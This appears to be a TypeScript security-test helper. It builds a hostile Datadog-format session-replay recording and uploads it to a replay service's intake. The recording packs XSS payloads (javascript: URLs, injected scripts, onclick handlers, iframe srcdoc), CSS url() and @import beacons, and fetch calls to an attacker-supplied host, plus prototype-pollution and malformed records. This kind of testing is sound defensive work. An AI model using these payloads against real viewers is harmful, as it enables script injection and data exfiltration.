// The hostile recording once more, in the form of Datadog's client.

import { deflateSync } from 'node:zlib'
import { v7 as newId } from 'uuid'
import { clientKey } from './flag-server.ts'
import { hostileBody, hostileHead } from './hostile-recordings.ts'
import { type Node, pageOf, sendSession } from './recordings.ts'

type Change = [unknown, ...unknown[]]

/** Nodes one after the other, each as the last child of its parent. */
function encode(page: Node): { nodes: unknown[]; sheets: string[]; owners: number[] } {
  const nodes: unknown[] = []
  const [sheets, owners]: [string[], number[]] = [[], []]
  const add = (node: Node, parent: number | undefined) => {
    const id = nodes.length
    const point = parent === undefined ? null : id - parent
    const { type, tagName, isSVG, textContent } = node
    if (type === 2) {
      const { _cssText: css, ...attributes } = Object(node.attributes)
      const name = `${isSVG === true ? 'svg>' : ''}${isSVG === true ? tagName : String(tagName).toUpperCase()}`
      nodes.push([point, name, ...Object.entries(attributes).map(([key, value]) => [key, String(value)])])
      if (css !== undefined) {
        sheets.push(String(css))
        owners.push(id)
      }
    } else if (type === 3) nodes.push([point, '#text', textContent])
    else
      nodes.push([
        point,
        type === 0 ? '#document' : type === 1 ? '#doctype' : '#cdata-section',
        'html',
        '',
        '',
      ])
    const { childNodes } = node
    for (const child of Array.isArray(childNodes) ? childNodes : []) add(child, id)
  }
  add(page, undefined)
  return { nodes, sheets, owners }
}

export async function sendHostileDatadogRecording(url: string, evil: string): Promise<string> {
  const [session, view] = [newId(), newId()]
  const start = Date.now() - 60_000
  await sendSession(url, session, start)
  const { nodes, sheets, owners } = encode(pageOf(hostileBody(evil), hostileHead(evil)))
  const count = nodes.length
  const body = nodes.findIndex((node) => JSON.stringify(node).includes('"BODY"'))
  const run = `top.hacked = true; fetch('${evil}/program')`
  const changed = (at: number, ...data: Change[]) => ({ type: 12, timestamp: start + at, data })
  const records = [
    { type: 4, timestamp: start, data: { href: `javascript:${run}`, width: 800, height: 500 } },
    {
      type: 2,
      format: 1,
      timestamp: start,
      data: [
        [1, ...nodes],
        [
          7,
          ...sheets.map((sheet) => [sheet]),
          [[`@import "${evil}/adopted.css"`, `p { background: url(${evil}/x.png) }`]],
        ],
        [8, ...owners.map((owner, index) => [owner, index]), [0, sheets.length]],
      ],
    },
    { type: 8, timestamp: start, data: null },
    changed(1_000, [
      1,
      [count - body, 'P'],
      [1, '#text', 'Late'],
      [count + 2 - body, 'SCRIPT'],
      [1, '#text', run],
    ]),
    changed(1_001, [
      3,
      [
        count,
        ['onclick', run],
        ['style', `background: url(${evil}/late.png)`],
        ['href', `javascript:${run}`],
      ],
    ]),
    changed(1_002, [
      1,
      [count + 4 - body, 'IFRAME', ['src', `${evil}/frame`], ['srcdoc', `<script>${run}</script>`]],
    ]),
    changed(
      1_003,
      [2, 1e9, -1, null],
      [3, [1e9, ['x', 'y']]],
      [15, [count, `${evil}/image`]],
      ['__proto__', { polluted: 1 }],
    ),
    {
      type: 3,
      timestamp: start + 1_004,
      data: {
        source: 8,
        id: owners[0],
        adds: [{ rule: `h1 { background: url(${evil}/rule.png) }`, index: 0 }],
      },
    },
    { type: 3, timestamp: start + 1_005, data: { source: 9, id: 5, property: 'constructor', args: [run] } },
    ...[null, 7, 'text', [], { type: '__proto__' }, { type: 12, timestamp: start, data: 'x' }],
    changed(1_100, [1, [count + 5 - body, 'P'], [1, '#text', 'After all of it']]),
  ]
  const event = {
    start,
    end: start + 10_000,
    index_in_view: 0,
    records_count: records.length,
    has_full_snapshot: true,
    source: 'browser',
    application: { id: 'harbour' },
    session: { id: session },
    view: { id: view },
  }
  const form = new FormData()
  form.append(
    'segment',
    new Blob([new Uint8Array(deflateSync(JSON.stringify({ records })))]),
    `${session}-${start}`,
  )
  form.append('event', new Blob([JSON.stringify(event)], { type: 'application/json' }), 'blob')
  const forward = encodeURIComponent(
    `/api/v2/replay?ddsource=browser&dd-api-key=${clientKey}&dd-request-id=${newId()}`,
  )
  const answer = await fetch(`${url}/intake/datadog?ddforward=${forward}`, { method: 'POST', body: form })
  if (answer.status !== 202) throw new Error(`the recording was refused: ${await answer.text()}`)
  return session
}
